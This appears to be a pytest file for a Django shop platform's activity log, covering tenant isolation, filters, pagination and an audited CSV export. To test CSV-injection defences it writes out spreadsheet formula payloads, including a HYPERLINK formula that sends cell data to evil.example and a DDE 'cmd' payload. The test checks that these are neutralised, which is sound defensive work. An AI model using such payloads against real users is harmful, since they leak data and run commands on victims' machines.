"""The activity log: filters, pagination, one event, the per-object history, and the CSV export
(formula cells neutralised, the export itself audited). Never another shop's events."""

import csv
import io
from datetime import timedelta

import pytest
import time_machine
from django.utils import timezone

from sellsafe.audit import activity
from sellsafe.audit.exports import ACTIVITY_EXPORTED, HEADER, neutralise
from sellsafe.audit.models import AuditEvent
from sellsafe.audit.services import record
from sellsafe.core import tenancy
from sellsafe.shops import events, roles, services
from tests.shops.helpers import role_of, url

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def two_shops(make_shop, add_member):
    shop_a, owner_a = make_shop(slug="shop-a", name="Shop A")
    shop_b, owner_b = make_shop(slug="shop-b", name="Shop B")
    member_a = add_member(shop_a, roles.ADMIN, email="admin-a@example.com")
    with tenancy.scope(shop_a):
        services.member_invite(
            actor=member_a,
            shop=shop_a,
            email="new-a@example.com",
            role=role_of(shop_a, roles.CATALOG),
        )
    with tenancy.scope(shop_b):
        services.member_invite(
            actor=owner_b,
            shop=shop_b,
            email="new-b@example.com",
            role=role_of(shop_b, roles.CATALOG),
        )
    return shop_a, owner_a, member_a, shop_b, owner_b


def _ids(response):
    return {row.event.pk for row in response.context["rows"]}


def test_the_log_shows_this_shops_events_newest_first(two_shops, browser):
    shop_a, owner_a, _, shop_b, _ = two_shops
    response = browser(owner_a.user).get(url(shop_a, "shop_activity"))
    assert response.status_code == 200
    rows = response.context["rows"]
    assert {row.event.shop_id for row in rows} == {shop_a.pk}
    assert [r.event.seq for r in rows] == sorted((r.event.seq for r in rows), reverse=True)
    b_events = set(AuditEvent.objects.filter(shop=shop_b).values_list("pk", flat=True))
    assert b_events.isdisjoint(_ids(response))
    page = response.content.decode()
    assert "Staff member invited" in page
    assert "new-b" not in page


def test_filters_by_person_action_target_and_date(two_shops, browser):
    shop_a, owner_a, member_a, _, _ = two_shops
    client = browser(owner_a.user)
    by_admin = client.get(url(shop_a, "shop_activity"), {"actor": str(member_a.pk)})
    assert by_admin.status_code == 200
    assert {r.event.actor_user_id for r in by_admin.context["rows"]} == {member_a.user.pk}

    invites = client.get(url(shop_a, "shop_activity"), {"action": events.MEMBER_INVITED})
    assert [r.event.action for r in invites.context["rows"]] == [events.MEMBER_INVITED]

    created = AuditEvent.objects.get(shop=shop_a, action=events.SHOP_CREATED)
    target = client.get(
        url(shop_a, "shop_activity"), {"target_type": "shop", "target_id": str(shop_a.pk)}
    )
    assert created.pk in _ids(target)
    assert all(r.event.target_id == str(shop_a.pk) for r in target.context["rows"])

    today = timezone.now().date()
    assert _ids(client.get(url(shop_a, "shop_activity"), {"since": str(today)}))
    assert not _ids(
        client.get(url(shop_a, "shop_activity"), {"until": str(today - timedelta(days=1))})
    )
    bad = client.get(url(shop_a, "shop_activity"), {"since": str(today), "until": "2001-01-01"})
    assert bad.status_code == 200
    assert not bad.context["rows"]
    assert "The start date is after the end date." in bad.content.decode()


def test_date_range_covers_whole_utc_days(make_shop, browser):
    with time_machine.travel("2026-03-01 23:59:00+00:00", tick=False):
        shop, owner = make_shop()
    with time_machine.travel("2026-03-02 00:01:00+00:00", tick=False), tenancy.scope(shop):
        services.shop_update(actor=owner, shop=shop, details={"name": "Renamed"})
    client = browser(owner.user)
    first = client.get(url(shop, "shop_activity"), {"since": "2026-03-01", "until": "2026-03-01"})
    second = client.get(url(shop, "shop_activity"), {"since": "2026-03-02"})
    assert [r.event.action for r in first.context["rows"]] == [events.SHOP_CREATED]
    assert events.SHOP_UPDATED in [r.event.action for r in second.context["rows"]]
    assert events.SHOP_CREATED not in [r.event.action for r in second.context["rows"]]


def test_pages_of_fifty_with_a_bounded_size(make_shop, browser):
    shop, owner = make_shop()
    for n in range(60):
        record(shop=shop, action=events.SHOP_UPDATED, actor=owner.user, target_id=str(n))
    client = browser(owner.user)
    first = client.get(url(shop, "shop_activity"))
    assert len(first.context["rows"]) == 50
    older = first.context["older_query"]
    assert older
    second = client.get(url(shop, "shop_activity") + "?" + older)
    assert len(second.context["rows"]) == 11  # 60 updates + "shop created"
    assert _ids(first).isdisjoint(_ids(second))
    assert second.context["older_query"] is None
    small = client.get(url(shop, "shop_activity"), {"size": "5"})
    assert len(small.context["rows"]) == 5
    for size in ("1000", "0", "-1", "abc"):
        too_big = client.get(url(shop, "shop_activity"), {"size": size})
        assert too_big.status_code == 200
        assert not too_big.context["rows"]
    # The selector clamps whatever it is asked for.
    assert activity.activity_page(shop=shop, size=10_000).size == activity.MAX_PAGE_SIZE
    assert len(activity.activity_page(shop=shop, after="garbage").events) == 50


def test_one_event_in_detail(two_shops, browser):
    shop_a, owner_a, _, shop_b, _ = two_shops
    event = AuditEvent.objects.filter(shop=shop_a, action=events.MEMBER_INVITED).get()
    client = browser(owner_a.user)
    page = client.get(url(shop_a, "shop_activity_event", event.pk))
    assert page.status_code == 200
    assert "staff.invited" in page.content.decode()
    other = AuditEvent.objects.filter(shop=shop_b).first()
    assert client.get(url(shop_a, "shop_activity_event", other.pk)).status_code == 404
    account_level = AuditEvent.objects.filter(shop__isnull=True).first()
    if account_level is not None:
        assert client.get(url(shop_a, "shop_activity_event", account_level.pk)).status_code == 404


def test_object_history_and_member_activity(two_shops, browser):
    shop_a, owner_a, member_a, _, _ = two_shops
    with tenancy.scope(shop_a):
        services.member_change_role(
            actor=owner_a, shop=shop_a, member=member_a, role=role_of(shop_a, roles.ANALYST)
        )
    history = activity.object_history(
        shop=shop_a, target_type="membership", target_id=str(member_a.pk)
    )
    assert [e.action for e in history] == [events.MEMBER_ROLE_CHANGED]
    assert activity.object_history(shop=shop_a, target_type="", target_id="x") == []
    done = activity.member_activity(shop=shop_a, user=member_a.user)
    assert [e.action for e in done] == [events.MEMBER_INVITED]
    page = browser(owner_a.user).get(url(shop_a, "shop_member", member_a.pk)).content.decode()
    assert "Role changed" in page
    assert "History of this membership" in page


def _export(client, shop, data=None):
    response = client.post(url(shop, "shop_activity_export"), data or {})
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith(f'attachment; filename="{shop.slug}-')
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body, newline="")))


def test_export_neutralises_formula_cells_and_is_audited(make_shop, browser):
    shop, owner = make_shop()
    for n, agent in enumerate(FORMULAS):
        hostile = browser(owner.user)
        hostile.defaults["HTTP_USER_AGENT"] = agent
        response = hostile.post(
            url(shop, "shop_settings"),
            {
                "name": f"=cmd|' /C calc'!A{n}",
                "country": "GB",
                "currency": "GBP",
                "timezone": "UTC",
                "contact_email": f"-{n}@example.com",
            },
        )
        assert response.status_code == 302
    rows = _export(browser(owner.user), shop)
    assert rows[0] == HEADER
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(dangerous), cell
    agents = [row[HEADER.index("user_agent")] for row in rows[1:]]
    for agent in FORMULAS:
        assert "'" + agent in agents  # kept, readable, but shown as text
    exported = AuditEvent.objects.get(shop=shop, action=ACTIVITY_EXPORTED)
    assert exported.actor_user_id == owner.user.pk
    assert exported.changes == {"filters": {}}


def test_export_respects_filters_and_records_them(two_shops, browser):
    shop_a, owner_a, member_a, shop_b, _ = two_shops
    rows = _export(
        browser(owner_a.user),
        shop_a,
        {"actor": str(member_a.pk), "action": events.MEMBER_INVITED},
    )
    assert len(rows) == 2
    assert rows[1][HEADER.index("action")] == events.MEMBER_INVITED
    assert rows[1][HEADER.index("actor")] == member_a.user.email
    exported = AuditEvent.objects.get(shop=shop_a, action=ACTIVITY_EXPORTED)
    assert exported.changes["filters"] == {
        "actor": str(member_a.user.pk),
        "action": events.MEMBER_INVITED,
    }
    b_ids = {str(pk) for pk in AuditEvent.objects.filter(shop=shop_b).values_list("pk", flat=True)}
    whole = _export(browser(owner_a.user), shop_a)
    assert b_ids.isdisjoint({row[HEADER.index("event_id")] for row in whole[1:]})


def test_export_needs_its_own_permission(two_shops, add_member, browser):
    shop_a, *_ = two_shops
    analyst = browser(add_member(shop_a, roles.ANALYST).user)
    page = analyst.get(url(shop_a, "shop_activity")).content.decode()
    assert url(shop_a, "shop_activity_export") not in page  # hidden, and refused:
    assert analyst.post(url(shop_a, "shop_activity_export")).status_code == 404
    assert analyst.get(url(shop_a, "shop_activity_export")).status_code == 404
    assert not AuditEvent.objects.filter(shop=shop_a, action=ACTIVITY_EXPORTED).exists()


def test_neutralise():
    assert neutralise("=1") == "'=1"
    assert neutralise("plain") == "plain"
    assert neutralise("") == ""
    assert neutralise("a=1") == "a=1"
